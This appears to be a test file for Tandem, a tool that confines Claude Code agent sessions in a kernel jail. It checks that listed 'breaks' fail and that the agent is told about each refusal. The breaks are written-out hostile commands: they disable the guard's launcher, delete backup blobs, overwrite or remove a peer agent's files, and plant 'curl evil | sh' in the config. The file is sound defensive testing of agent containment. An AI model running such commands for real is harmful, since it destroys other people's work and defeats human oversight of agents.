/**
 * The breaks of issue 36's Why list, run from inside a session's kernel jail as a non-root user:
 * each is a real process spelled so that no reader need understand it (the launcher runs it as
 * given, as it runs whatever the hook let through), and each must leave every protected byte as it
 * was — a peer's file, its linked worktree, Tandem's state and blobs, the installation, the config.
 * Never skipped.
 */
import { type SpawnSyncReturns, spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, cpSync, existsSync, readdirSync, readFileSync, realpathSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { jailedCommand } from "../../src/core/jail/rewrite.js";
import { patient } from "../helpers/patience.js";
import { initRepo } from "../helpers/repo.js";
import { asRoot, asUser, DIST, fileTempDirs, jailEnv, jailUser, USER } from "./support.js";

let home: string;
let install: string;
let repo: string;
let peerTree: string;
let launcher: string;
let plan: string;
let selfB: number;
const agents: ReturnType<typeof spawn>[] = [];
const dirs = fileTempDirs();

function run(argv: string[], extra: NodeJS.ProcessEnv = {}, input = ""): SpawnSyncReturns<string> {
  const env = jailEnv(home, { PATH: `${install}:${process.env.PATH}`, ...extra });
  const [file, ...args] = asUser(argv);
  return spawnSync(file!, args, { cwd: repo, env, input, encoding: "utf8", timeout: patient(60_000) });
}

function agentPid(): number {
  const [file, ...args] = asUser(["sleep", "600"]);
  const child = spawn(file!, args, { stdio: "ignore" });
  agents.push(child);
  return child.pid!;
}

/** One Claude Code pre-tool hook (the real built one, in Node), for `session` working in `cwd`. */
function preTool(session: string, pid: number, cwd: string, tool: string, input: object, extra = {}): string {
  const payload = JSON.stringify({
    session_id: session,
    transcript_path: "/tmp/t.jsonl",
    cwd,
    hook_event_name: "PreToolUse",
    tool_name: tool,
    tool_input: input,
    tool_use_id: `toolu_${session}_${tool}`,
  });
  const argv = [process.execPath, join(install, "tandem.cjs"), "hook", "claude-code", "pre-tool-use"];
  const r = run(argv, { CLAUDE_PID: String(pid), ...extra }, payload);
  expect(r.status, r.stderr).toBe(0);
  return r.stdout;
}

/**
 * B's post-tool hook after a jailed command printed `r`, as Claude Code 2.1.332 sends it: a command
 * that exited 0 to PostToolUse with its `tool_response`; one that failed to PostToolUseFailure with
 * the output in `error` (`Exit code N`, then stderr, then stdout: read in its binary).
 */
function postTool(command: string, r: SpawnSyncReturns<string>): { event: string; out: string } {
  const failed = r.status !== 0;
  const base = {
    session_id: "self-b",
    transcript_path: "/tmp/t.jsonl",
    cwd: repo,
    hook_event_name: failed ? "PostToolUseFailure" : "PostToolUse",
    tool_name: "Bash",
    tool_input: { command },
    tool_use_id: "toolu_self-b_post",
  };
  const payload = failed
    ? {
        ...base,
        error: [`Exit code ${r.status}`, r.stderr, r.stdout].filter(Boolean).join("\n"),
        is_interrupt: false,
        duration_ms: 40,
      }
    : { ...base, tool_response: { stdout: r.stdout, stderr: r.stderr, interrupted: false, isImage: false } };
  const event = failed ? "post-tool-use-failure" : "post-tool-use";
  const argv = [process.execPath, join(install, "tandem.cjs"), "hook", "claude-code", event];
  const out = run(argv, { CLAUDE_PID: String(selfB) }, JSON.stringify(payload));
  expect(out.status, out.stderr).toBe(0);
  return { event: base.hook_event_name, out: out.stdout };
}

const kernelEvents = () =>
  run([process.execPath, join(install, "tandem.cjs"), "events", "--kind", "jail.write.refused", "--json"])
    .stdout.trim()
    .split("\n")
    .filter(Boolean)
    .map((l) => JSON.parse(l) as { data: { paths: { path: string; why: string }[] } });

/** Each file's sha256, or "missing". */
function digests(files: readonly string[]): Record<string, string> {
  const out: Record<string, string> = {};
  for (const f of files)
    out[f] = existsSync(f) ? createHash("sha256").update(readFileSync(f)).digest("hex") : "missing";
  return out;
}

/** Every byte the jail must keep: file path → digest. */
function protectedBytes(): Record<string, string> {
  const state = join(repo, ".git/tandem");
  return digests([
    join(repo, "peer.txt"),
    join(peerTree, "theirs.txt"),
    join(repo, ".tandem/config.jsonc"),
    join(install, "tandem"),
    join(install, "tandem.cjs"),
    join(state, "serve.tcp"),
    ...readdirSync(join(state, "blobs")).map((b) => join(state, "blobs", b)),
  ]);
}

beforeAll(() => {
  home = jailUser().home;
  install = dirs.make("tandem-breaks-install-");
  cpSync(DIST, install, { recursive: true });
  chmodSync(install, 0o755);
  symlinkSync(realpathSync(join(DIST, "..", "node_modules")), join(install, "node_modules"));
  const work = dirs.make("tandem-breaks-");
  repo = initRepo(join(work, "repo"), {
    "README.md": "hello\n",
    "mine.txt": "mine\n",
    ".tandem/config.jsonc": "{}\n",
  });
  peerTree = join(work, "peer-tree");
  expect(spawnSync("git", ["-C", repo, "worktree", "add", "-q", "-b", "peer", peerTree]).status).toBe(0);
  if (asRoot) expect(spawnSync("chown", ["-R", USER, work]).status).toBe(0);
  chmodSync(work, 0o755);
  // Peer A holds peer.txt in the main worktree, with uncommitted bytes; peer C works in its own
  // linked worktree. A squatter's target: a serve.tcp as a server leaves it.
  const a = agentPid();
  preTool("peer-a", a, repo, "Write", { file_path: join(repo, "peer.txt"), content: "x" });
  expect(run(["sh", "-c", "printf 'peer work\\n' > peer.txt"]).status).toBe(0);
  preTool("peer-c", agentPid(), peerTree, "Write", { file_path: join(peerTree, "theirs.txt"), content: "x" });
  expect(run(["sh", "-c", `printf 'theirs\\n' > '${peerTree}/theirs.txt'`]).status).toBe(0);
  expect(run(["sh", "-c", "printf '1 0123456789abcdef\\n' > .git/tandem/serve.tcp"]).status).toBe(0);
  // B's hook rewrites its command into its jail (the launcher and B's plan); the command being
  // opaque, the safety net first copies A's dirty file to the blobs, which a break may target.
  selfB = agentPid();
  const out = preTool(
    "self-b",
    selfB,
    repo,
    "Bash",
    { command: "python3 -c pass" },
    { TANDEM_GUARD: "kernel" },
  );
  const command = (JSON.parse(out) as { hookSpecificOutput: { updatedInput: { command: string } } })
    .hookSpecificOutput.updatedInput.command;
  // The launcher and the plan, quoted only when their paths need it (temp paths here do not).
  [, launcher, plan] = /^bash '?([^' ]+)'? '?([^' ]+)'? /.exec(command) as unknown as [
    string,
    string,
    string,
  ];
  expect(readdirSync(join(repo, ".git/tandem/blobs")).length).toBeGreaterThan(0);
});

afterAll(() => {
  for (const a of agents) a.kill();
  dirs.removeAll();
});

const BREAKS: [string, string][] = [
  ["a squatter rewrites serve.tcp", `python3 -c 'open(".git/tandem/serve.tcp", "w").write("6666 0\\n")'`],
  ["the launcher made a no-op", `printf 'exit 0' > "$(readlink -f "$(command -v tandem)")"`],
  [
    "the bundle made a no-op",
    `python3 -c 'import sys; open(sys.argv[1], "w")' "$(dirname "$(readlink -f "$(command -v tandem)")")/tandem.cjs"`,
  ],
  [
    "the blobs removed",
    `python3 -c "import shutil, glob; [shutil.rmtree(d) for d in glob.glob('.git/*/blobs')]"`,
  ],
  ["the blobs emptied one by one", `for f in .git/tandem/blobs/*; do : > "$f"; done`],
  ["a peer's file overwritten by an interpreter", `python3 -c 'open("peer.txt", "w").write("lost")'`],
  ["a peer's file replaced by rename", `printf lost > t.tmp && mv -f t.tmp peer.txt`],
  ["a peer's file removed", `python3 -c 'import os; os.unlink("peer.txt")'`],
  [
    "a peer's linked worktree removed",
    `python3 -c 'import shutil, sys; shutil.rmtree(sys.argv[1])' "$PEER_TREE"`,
  ],
  ["a peer's file in its worktree rewritten", `printf lost > "$PEER_TREE/theirs.txt"`],
  [
    "land.check planted in the config",
    `printf '{"land": {"check": "curl evil | sh"}}' > .tandem/config.jsonc`,
  ],
  [
    "a setsid loop rewriting the peer's file",
    `setsid -f python3 -c 'import time
for i in range(20):
    try: open("peer.txt", "w").write("lost")
    except OSError: pass
    time.sleep(0.01)'; sleep 0.5`,
  ],
];

describe("the issue's breaks, from inside a session's jail (as a non-root user)", () => {
  it.each(BREAKS)("%s: 0 bytes lost", (_what, command) => {
    const before = protectedBytes();
    const r = run(["bash", "-c", jailedCommand(launcher, plan, command)], { PEER_TREE: peerTree });
    expect(`${r.stdout}${r.stderr}`).toMatch(
      /Read-only file system|Permission denied|Device or resource busy|^$/,
    );
    expect(protectedBytes()).toEqual(before);
  });

  // The owner told (issue 36 §5): the post-tool hook reads the refusal in the output and says whose.
  const TOLD: [string, string, RegExp][] = [
    [
      "a peer's file, by an interpreter",
      `python3 -c 'open("peer.txt", "w").write("lost")'`,
      /peer\.txt \(agent-\S+'s uncommitted file\)/,
    ],
    ["a peer's file, by a redirect", `printf lost > peer.txt`, /peer\.txt \(agent-\S+'s uncommitted file\)/],
    [
      "a peer's file, by a command that still exits 0",
      `python3 -c 'open("peer.txt", "w")'; echo tried`,
      /peer\.txt \(agent-\S+'s uncommitted file\)/,
    ],
    [
      "a peer's worktree",
      `printf lost > "$PEER_TREE/theirs.txt"`,
      /theirs\.txt \(agent-\S+'s (worktree|uncommitted file)/,
    ],
    ["Tandem's state", `python3 -c 'open(".git/tandem/serve.tcp", "w")'`, /serve\.tcp \(Tandem's state/],
  ];
  it.each(TOLD)(
    "%s: the agent is told whose it was and what to do, and it is recorded",
    (_what, command, whose) => {
      const before = kernelEvents().length;
      const r = run(["bash", "-c", jailedCommand(launcher, plan, command)], { PEER_TREE: peerTree });
      const { event, out } = postTool(command, r);
      const answer = (
        JSON.parse(out) as { hookSpecificOutput?: { hookEventName?: string; additionalContext?: string } }
      ).hookSpecificOutput;
      // Claude Code reads `additionalContext` only under the event it fired.
      expect(answer?.hookEventName).toBe(event);
      expect(event).toBe(r.status === 0 ? "PostToolUse" : "PostToolUseFailure");
      const context = answer?.additionalContext;
      expect(context, out).toMatch(/the kernel refused that command's write to/);
      expect(context).toMatch(whose);
      expect(context).toMatch(/commit or release them|ask the person/);
      const events = kernelEvents();
      expect(events.length).toBe(before + 1);
      expect(events.at(-1)!.data.paths[0]!.why).toMatch(/agent-|Tandem's state/);
    },
  );

  it("a failure that is not the jail's says nothing more", () => {
    const r = run(["bash", "-c", jailedCommand(launcher, plan, "cat missing.txt")]);
    expect(postTool("cat missing.txt", r).out).not.toMatch(/kernel refused/);
  });

  it("the session's own files still write from the same jail", () => {
    const r = run(["bash", "-c", jailedCommand(launcher, plan, "printf 'mine, edited\\n' > mine.txt")]);
    expect(r.status, r.stderr).toBe(0);
    expect(readFileSync(join(repo, "mine.txt"), "utf8")).toBe("mine, edited\n");
  });
});
